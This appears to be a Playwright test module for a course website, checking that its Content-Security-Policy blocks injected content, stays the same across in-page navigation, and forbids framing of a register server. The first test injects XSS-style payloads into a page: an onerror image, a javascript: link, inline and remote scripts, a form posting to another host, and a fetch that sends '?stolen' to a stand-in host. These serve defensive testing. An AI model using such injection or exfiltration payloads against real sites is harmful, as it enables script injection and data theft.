"""The site's Content-Security-Policy in a browser. What the pages themselves do is let through: any fault that a
browser reports on any page is a failure of every test here (conftest.watch)."""
from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from .conftest import Arrives
from .course_site import CourseSite
from .learner import waits_until
from .register_site import RegisterSite
from .test_navigation import goes_to, two_chapters

LISTENS = """
window.stopped = [];
document.addEventListener("securitypolicyviolation", (event) => stopped.push(event.effectiveDirective));
"""
INJECTED = """() => {
  const box = document.createElement("div");
  document.querySelector("article").append(box);
  box.innerHTML = '<img src="data:," onerror="window.ran = 1"><a href="javascript:window.ran = 2">x</a>' +
    '<p style="position: fixed">x</p><form action="https://other.example/"><button>x</button></form>';
  const script = document.createElement("script");
  script.textContent = "window.ran = 3";
  box.append(script);
  const other = document.createElement("script");
  other.src = "https://other.example/x.js";
  box.append(other);
  const frame = document.createElement("iframe");
  frame.src = "https://other.example/";
  box.append(frame);
  box.querySelector("a").click();
  box.querySelector("button").click();
  fetch("https://other.example/?stolen").catch(() => {});
  setTimeout("window.ran = 4");
}"""
STOPPED = ["connect-src", "form-action", "frame-src", "script-src", "script-src-attr", "script-src-elem",
           "style-src-attr"]  # fmt: skip


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """Unwatched: here the browser is meant to complain."""
    context = browser.new_context(locale="sv-SE")
    context.add_init_script(LISTENS)
    yield context.new_page()
    context.close()


def test_what_is_injected_into_a_page_neither_runs_nor_sends(page: Page, site: CourseSite) -> None:
    failed: list[str | None] = []
    page.on("requestfailed", lambda request: failed.append(request.failure))
    page.goto(site.url)
    page.evaluate(INJECTED)
    waits_until(page, f"{json.dumps(STOPPED)}.every((one) => stopped.includes(one))")
    assert page.evaluate("window.ran") is None
    assert set(failed) == {"csp"}, "stopped before any host was asked"
    assert page.url == site.url


def test_pages_reached_without_a_load_keep_the_one_policy_and_run_under_it(
    arrives: Arrives, instant_site: CourseSite
) -> None:
    learner = arrives(instant_site, script=LISTENS, viewport={"width": 1280, "height": 800})
    policy = learner.page.locator('meta[http-equiv="Content-Security-Policy"]')
    here, there = two_chapters(learner)
    learner.page.goto(learner.base)
    first = policy.get_attribute("content")
    for source in (here, there):
        goes_to(learner, source)
        expect(policy).to_have_count(1)
        expect(policy).to_have_attribute("content", first or "")
    assert learner.page.evaluate("stopped") == []


def test_nobody_may_frame_a_page_of_the_register_s_server(arrives: Arrives, register_site: RegisterSite) -> None:
    learner = arrives(register_site, script=LISTENS)
    for address in ("", "mina-uppgifter/", "assets/images/favicon.svg"):
        answer = learner.page.goto(learner.base + address)
        assert answer and answer.headers["content-security-policy"] == "frame-ancestors 'none'"
    learner.opens(learner.final.page)
    assert learner.page.evaluate("stopped") == []
